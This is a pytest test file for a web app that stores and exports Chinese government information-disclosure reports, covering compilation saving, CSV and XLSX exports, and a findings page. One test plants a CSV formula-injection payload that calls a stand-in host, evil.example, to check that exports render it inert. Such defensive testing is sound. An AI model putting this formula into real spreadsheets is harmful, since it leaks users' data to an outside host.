"""The collection on the web: a 汇编 saved as every report it holds, exports of the filtered list, the findings page."""

from __future__ import annotations

import html
import io
import re
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("fastapi", reason="the web extra is not installed (pip install 'xxgk[web]')")

from fastapi.testclient import TestClient

from conftest import CORPUS
from test_web import check_file, csrf, login, make_client
from xxgk.web.views import collection as collection_view

# A 汇编: three real reports under the compilation's title, and their agencies in the file's order.
PARTS = ["dev_031", "dev_003", "dev_d105"]
AGENCIES = ["麻阳苗族自治县板栗树乡人民政府", "淮安市洪泽区人民政府", "石家庄市桥西区中山街道办事处"]


def compilation(folder: Path) -> Path:
    """The 汇编 as a text file in ``folder``."""
    path = folder / "淮安市汇编.txt"
    texts = [(CORPUS / f"{n}.txt").read_text(encoding="utf-8") for n in PARTS]
    path.write_text("淮安市2023年度政府信息公开工作年度报告汇编\n\n" + "\n\n".join(texts), encoding="utf-8")
    return path


@pytest.fixture
def client(tmp_path: Path) -> TestClient:
    return make_client(tmp_path)


def saved_ids(html: str) -> list[int]:
    """The report ids the saved page links, in its order (each once)."""
    table = html.split('id="saved"', 1)[1].split("</table>", 1)[0]
    return [int(i) for i in dict.fromkeys(re.findall(r'href="/reports/(\d+)"', table))]


def test_saving_a_compilation_stores_every_report_as_ingest_does(tmp_path: Path) -> None:
    """The check page reads a 汇编's first report; saving stores all three, as ``xxgk ingest`` does, and lists them."""
    from xxgk.store import Store

    path = compilation(tmp_path)
    client = make_client(tmp_path)
    checked = check_file(client, path)
    assert checked.status_code == 200 and "收有 3 份年度报告" in checked.text
    login(client, "reviewer")
    base = str(checked.url)
    assert "保存到报告库（全部 3 份报告）" in client.get(base).text
    saved = client.post(base + "/save", data={"csrf_token": csrf(client, base)})
    assert saved.status_code == 200 and str(saved.url).endswith("/saved"), saved.text[:300]
    assert "已逐份入库" in saved.text and all(a in saved.text for a in AGENCIES)
    ids = saved_ids(saved.text)
    assert len(ids) == 3
    for report_id, agency in zip(ids, AGENCIES, strict=True):
        assert agency in client.get(f"/reports/{report_id}").text

    # The same file through the command line's path (Store.ingest): the same reports, part by part.
    with Store(f"sqlite:///{tmp_path / 'cli.db'}") as cli, Store(f"sqlite:///{tmp_path / 'web.db'}") as web:
        assert cli.ingest([path], workers=1).reports == 3
        by_cli = sorted(cli.reports(), key=lambda r: r.part)
        by_web = sorted(web.reports(), key=lambda r: r.part)
        assert [r.id for r in by_web] == ids
        assert [(r.part, r.agency, r.year, r.title) for r in by_web] == [
            (r.part, r.agency, r.year, r.title) for r in by_cli]
        for mine, theirs in zip(by_web, by_cli, strict=True):
            a, b = web.get(mine.id), cli.get(theirs.id)
            assert a is not None and b is not None
            assert a.tables == b.tables and a.meta == b.meta
            assert [(f.rule, f.where) for f in a.findings] == [(f.rule, f.where) for f in b.findings]
            assert any(f.rule == "PARSE-COMPILATION-PART" for f in a.findings)

    # Saved again: nothing stored twice, and the page says the file was in the store already.
    again = client.post(base + "/save", data={"csrf_token": csrf(client, base)})
    assert again.status_code == 200 and "此前已入库" in again.text and saved_ids(again.text) == ids


def test_saving_a_single_report_still_opens_it(client: TestClient) -> None:
    """A file of one report: no compilation notice, and saving opens the stored report."""
    base = str(check_file(client, CORPUS / "dev_003.txt").url)
    assert "收有" not in client.get(base).text
    login(client, "reviewer")
    page = client.get(base).text
    assert "保存到报告库</button>" in page
    saved = client.post(base + "/save", data={"csrf_token": csrf(client, base)})
    assert saved.status_code == 200 and re.search(r"/reports/\d+$", str(saved.url))


def test_the_saved_page_needs_a_saved_report(client: TestClient) -> None:
    base = str(check_file(client, CORPUS / "dev_003.txt").url)
    assert client.get(base + "/saved").status_code == 404
    assert client.get("/check/unknown-token/saved").status_code == 404


# --- the collection's export ------------------------------------------------------------------------------------


def filled_client(tmp_path: Path, **settings: Any) -> TestClient:
    """A client on a store holding the 汇编's three reports and two more (through ``xxgk ingest``'s call)."""
    from xxgk.store import Store

    client = make_client(tmp_path, **settings)
    with Store(f"sqlite:///{tmp_path / 'web.db'}") as store:
        summary = store.ingest([compilation(tmp_path), CORPUS / "dev_002.txt", CORPUS / "dev_010.txt"], workers=1)
        assert (summary.failed, summary.reports) == (0, 5)
    return client


def test_the_filtered_list_exports_as_xxgk_export_writes_it(tmp_path: Path) -> None:
    """The buttons carry the filters; each file is the one ``xxgk export`` writes for them, byte for byte (CSV)."""
    from openpyxl import load_workbook

    from xxgk.store import Store
    from xxgk.store.export import export
    from xxgk.store.query import Filters

    client = filled_client(tmp_path)
    listing = client.get("/collection", params={"agency": "洪泽", "offset": 0}).text
    assert 'href="/collection/export.xlsx?agency=%E6%B4%AA%E6%B3%BD"' in listing
    assert "导出 CSV" in listing and "导出问题 CSV" in listing
    expected = tmp_path / "expected.csv"
    with Store(f"sqlite:///{tmp_path / 'web.db'}") as store:
        reports, findings = export(store.engine, expected, "csv", Filters(agency="洪泽"))
    got = client.get("/collection/export.csv", params={"agency": "洪泽"})
    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
    assert got.headers["content-disposition"].startswith('attachment; filename="reports.csv"')
    assert got.content == reports.read_bytes() and got.content.startswith(b"\xef\xbb\xbf")
    assert client.get("/collection/export-findings.csv", params={"agency": "洪泽"}).content == findings.read_bytes()
    assert b"\xe6\xb4\xaa\xe6\xb3\xbd" in got.content and "石家庄".encode() not in got.content

    book = load_workbook(io.BytesIO(client.get("/collection/export.xlsx", params={"year": 2021}).content))
    assert book.sheetnames == ["报告", "问题"]
    rows = list(book["报告"].iter_rows(values_only=True))
    assert rows[0][0] == "报告编号" and rows[1][0] == "report_id"
    assert [r[rows[1].index("year")] for r in rows[2:]] == [2021]
    everything = load_workbook(io.BytesIO(client.get("/collection/export.xlsx").content))
    assert everything["报告"].max_row - 2 == 5
    assert client.get("/collection/export.csv", params={"level": "nobody"}).status_code == 400


def test_a_private_collection_exports_to_signed_in_users_only(tmp_path: Path) -> None:
    client = filled_client(tmp_path, public_collection=False)
    for path in ("/collection/export.xlsx", "/collection/export.csv", "/collection/export-findings.csv"):
        assert client.get(path, follow_redirects=False).status_code in (303, 401)
    login(client, "clerk")
    assert client.get("/collection/export.csv").status_code == 200


# --- the findings page ------------------------------------------------------------------------------------------


def listed_findings(html: str) -> list[tuple[str, str, str]]:
    """The findings page's rows: (severity, rule, agency)."""
    table = html.split('id="findings"', 1)[1].split("</table>", 1)[0]
    rows = re.findall(r'<tr class="sev-(\w+)">\s*<td class="agency"><a href="/reports/\d+">([^<]*)</a></td>.*?<code[^>]*>([^<]+)</code>',
                      table, re.S)
    return [(severity, rule, agency) for severity, agency, rule in rows]


def test_the_findings_page_filters_as_the_list_does_and_by_rule_and_severity(tmp_path: Path) -> None:
    """Every stored finding by default; each filter narrows to exactly what the store holds for it."""
    from xxgk.store import Store

    client = filled_client(tmp_path)
    with Store(f"sqlite:///{tmp_path / 'web.db'}") as store:
        stored = store.findings()
        levels = {r.id: r.level for r in store.reports()}
    page = client.get("/collection/findings")
    assert page.status_code == 200 and 'href="/collection/findings"' in page.text  # in the menu
    assert f"共 {len(stored)} 条问题" in page.text and len(listed_findings(page.text)) == len(stored)
    for name in ("year", "region", "level", "errors", "rule", "severity", "agency"):
        assert f'name="{name}"' in page.text

    warnings = listed_findings(client.get("/collection/findings", params={"severity": "warning"}).text)
    assert len(warnings) == sum(f.severity == "warning" for f in stored) and {s for s, _, _ in warnings} == {"warning"}
    rule = next(f.rule for f in stored if f.severity == "warning")
    by_rule = listed_findings(client.get("/collection/findings", params={"rule": rule}).text)
    assert len(by_rule) == sum(f.rule == rule for f in stored) and {r for _, r, _ in by_rule} == {rule}
    by_year = listed_findings(client.get("/collection/findings", params={"year": 2024}).text)
    assert len(by_year) == sum(f.year == 2024 for f in stored) > 0
    hongze = listed_findings(client.get("/collection/findings", params={"agency": "洪泽"}).text)
    assert len(hongze) == sum("洪泽" in (f.agency or "") for f in stored) > 0
    assert {a for _, _, a in hongze} == {"淮安市洪泽区人民政府"}
    towns = listed_findings(client.get("/collection/findings", params={"level": "township"}).text)
    assert len(towns) == sum(levels[f.report_id] == "township" for f in stored) > 0
    jiangsu = listed_findings(client.get("/collection/findings", params={"region": "江苏"}).text)
    assert {a for _, _, a in jiangsu} == {"淮安市洪泽区人民政府"}
    both = client.get("/collection/findings", params={"severity": "warning", "year": 2024, "region": "江苏"}).text
    assert 'value="warning" selected' in both and 'value="江苏"' in both
    assert all(s == "warning" for s, _, _ in listed_findings(both))
    assert client.get("/collection/findings", params={"severity": "fatal"}).status_code == 400
    assert client.get("/collection/findings", params={"level": "nobody"}).status_code == 400
    assert "没有符合条件的问题" in client.get("/collection/findings", params={"agency": "没有这个机关"}).text


def test_a_finding_links_to_its_place_in_its_report(tmp_path: Path) -> None:
    client = filled_client(tmp_path)
    html = client.get("/collection/findings", params={"agency": "洪泽"}).text
    link = re.search(r'href="(/reports/\d+#rule=[^"]+)">查看</a>', html)
    assert link and "where=" in link.group(1)
    assert client.get(link.group(1).split("#")[0]).status_code == 200


# --- the findings page's own CSV, the rule filter, agencies missing a year ----------------------------------------


def csv_rows(body: bytes) -> list[dict[str, str]]:
    """A downloaded CSV's rows (it starts with a BOM for Excel)."""
    import csv

    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_findings_page_downloads_exactly_the_findings_it_lists(tmp_path: Path) -> None:
    """The button carries the page's filters (severity too); the CSV holds every finding listed, in the page's order,
    with the columns of ``xxgk export``'s findings CSV, written by the same safe writer."""
    from sqlalchemy import update

    from xxgk.db import store_schema as schema
    from xxgk.store import Store
    from xxgk.store.export import FINDING_LABELS

    client = filled_client(tmp_path)
    with Store(f"sqlite:///{tmp_path / 'web.db'}") as store:
        stored = store.findings()
        with store.engine.begin() as conn:  # a quote as a hostile report could carry it
            conn.execute(update(schema.Finding).where(schema.Finding.rule == "TIME-NO-DATE")
                         .values(quote='=HYPERLINK("http://evil.example/?"&A1)'))
    params = {"severity": "warning", "region": "江苏"}
    html = client.get("/collection/findings", params=params).text
    assert 'href="/collection/findings.csv?region=%E6%B1%9F%E8%8B%8F&amp;severity=warning"' in html
    got = client.get("/collection/findings.csv", params=params)
    assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv")
    assert got.headers["content-disposition"].startswith('attachment; filename="findings.csv"')
    rows = csv_rows(got.content)
    assert list(rows[0]) == list(FINDING_LABELS)
    assert [(r["severity"], r["rule"], r["agency"]) for r in rows] == listed_findings(html) != []

    everything = csv_rows(client.get("/collection/findings.csv").content)
    assert len(everything) == len(stored) == len(listed_findings(client.get("/collection/findings").text))
    assert [r["agency"] for r in everything] == sorted(r["agency"] for r in everything)  # the page's order
    text = client.get("/collection/findings.csv", params={"rule": "time-no-date"}).content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and '"=HYPERLINK(' not in text  # shown as text, never run as a formula
    assert client.get("/collection/findings.csv", params={"severity": "fatal"}).status_code == 400
    assert client.get("/collection/findings.csv", params={"rule": "no-date"}).status_code == 400

    (tmp_path / "private").mkdir()
    private = make_client(tmp_path / "private", public_collection=False)
    assert private.get("/collection/findings.csv", follow_redirects=False).status_code in (303, 401)


def test_the_rule_filter_takes_several_rules_in_any_case(tmp_path: Path) -> None:
    from xxgk.store import Store

    client = filled_client(tmp_path)
    with Store(f"sqlite:///{tmp_path / 'web.db'}") as store:
        stored = store.findings()
    two = {"PARSE-CELL-BLANK", "TIME-NO-DATE"}
    page = client.get("/collection/findings", params={"rule": " parse-cell-blank，Time-No-Date "})
    assert page.status_code == 200 and 'value="PARSE-CELL-BLANK,TIME-NO-DATE"' in page.text
    listed = listed_findings(page.text)
    assert len(listed) == sum(f.rule in two for f in stored) and {r for _, r, _ in listed} == two
    assert 'list="rule-choices"' in page.text and '<option value="TIME-NO-DATE">' in page.text
    reports = client.get("/collection", params={"rule": "time-no-date parse-cell-blank"})
    shown = set(re.findall(r'href="/reports/(\d+)"', reports.text.split('id="reports"')[1].split("</table>")[0]))
    assert shown == {str(f.report_id) for f in stored if f.rule in two}
    api = client.get("/api/reports", params={"rule": "Time-No-Date,PARSE-cell-blank"})
    assert {str(r["report_id"]) for r in api.json()} == shown


@pytest.mark.parametrize("path", ["/collection", "/collection/findings", "/collection/charts"])
def test_an_unknown_rule_is_said_on_the_page_naming_the_closest(tmp_path: Path, path: str) -> None:
    """A typo is not an empty list: the page keeps its form and says which rule ids are close."""
    client = filled_client(tmp_path)
    page = client.get(path, params={"rule": "no-date, T3-TOTAL"})
    assert page.status_code == 400 and 'id="filter-error"' in page.text
    said = page.text.split('id="filter-error">')[1].split("</p>")[0]
    assert "没有这条规则：no-date；相近的规则：TIME-NO-DATE" in said and "没有这条规则：T3-TOTAL" in said
    assert "T3-ROW-TOTAL" in said and 'value="no-date, T3-TOTAL"' in page.text
    assert "没有符合条件" not in page.text and 'id="reports"' not in page.text and 'id="findings"' not in page.text


def test_an_unknown_rule_is_a_400_for_downloads_and_the_api(tmp_path: Path) -> None:
    client = filled_client(tmp_path)
    for path in ("/collection/export.csv", "/collection/export-findings.csv", "/collection/export.xlsx"):
        assert client.get(path, params={"rule": "late"}).status_code == 400
    api = client.get("/api/reports", params={"rule": "late"})
    assert api.status_code == 400 and "TIME-LATE" in api.json()["error"]


def missing_names(html: str) -> list[str]:
    """The agencies the 年度没有报告的机关 table lists."""
    table = html.split('id="missing"', 1)[1].split("</table>", 1)[0]
    return re.findall(r'<a href="/agencies/\d+">([^<]+)</a>', table)


def test_the_agencies_missing_a_year_follow_the_filters_that_apply_to_agencies(tmp_path: Path) -> None:
    """Region, level and name choose the agencies; errors and rules describe reports, which they have none of."""
    client = filled_client(tmp_path)
    everyone = missing_names(client.get("/collection", params={"year": 2024}).text)
    assert sorted(everyone) == sorted(["平潭综合实验区", "石家庄市桥西区中山街道办事处", "麻阳苗族自治县板栗树乡人民政府"])
    assert missing_names(client.get("/collection", params={"year": 2024, "region": "河北"}).text) == [
        "石家庄市桥西区中山街道办事处"]
    towns = missing_names(client.get("/collection", params={"year": 2024, "level": "township"}).text)
    assert sorted(towns) == ["石家庄市桥西区中山街道办事处", "麻阳苗族自治县板栗树乡人民政府"]
    assert missing_names(client.get("/collection", params={"year": 2024, "agency": "麻阳"}).text) == [
        "麻阳苗族自治县板栗树乡人民政府"]
    assert missing_names(client.get("/collection", params={"year": 2024, "region": "江苏"}).text) == []
    for ignored in ({"errors": "no"}, {"rule": "TIME-NO-DATE"}):
        assert sorted(missing_names(client.get("/collection", params={"year": 2024, **ignored}).text)) == sorted(everyone)
    api = client.get("/api/missing", params={"year": 2024, "region": "河北"})
    assert [m["name"] for m in api.json()] == ["石家庄市桥西区中山街道办事处"]


def test_a_long_list_of_agencies_missing_a_year_says_it_is_cut_and_the_api_gives_all(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The page lists a bounded number and says how many there are; /api/missing has no such bound."""
    client = filled_client(tmp_path)
    monkeypatch.setattr(collection_view, "MISSING_SHOWN", 2)
    page = client.get("/collection", params={"year": 2024, "level": "township"}).text
    assert len(missing_names(page)) == 2 and "共 2 个机关" not in page
    cut = client.get("/collection", params={"year": 2024}).text
    assert len(missing_names(cut)) == 2 and "共 3 个机关，此处只列出前 2 个" in cut
    link = re.search(r'href="(/api/missing\?[^"]*)"', cut)
    assert link is not None and len(client.get(html.unescape(link.group(1))).json()) == 3


@pytest.mark.parametrize("path", ["/collection", "/collection/findings", "/collection/charts",
                                  "/collection/findings.csv", "/api/reports"])
def test_the_filter_form_sent_with_every_year_is_not_an_error(tmp_path: Path, path: str) -> None:
    """年度 全部 sends ``year=``: every year, as when it is left out; a wrong year is still refused."""
    client = filled_client(tmp_path)
    blank = client.get(path + "?year=&region=&level=&errors=&rule=&agency=")
    links = re.compile(rb'href="[^"]*"')  # the pages' own links carry the address as given
    assert blank.status_code == 200 and links.sub(b"", blank.content) == links.sub(b"", client.get(path).content)
    assert client.get(path, params={"year": "1900"}).status_code == 422
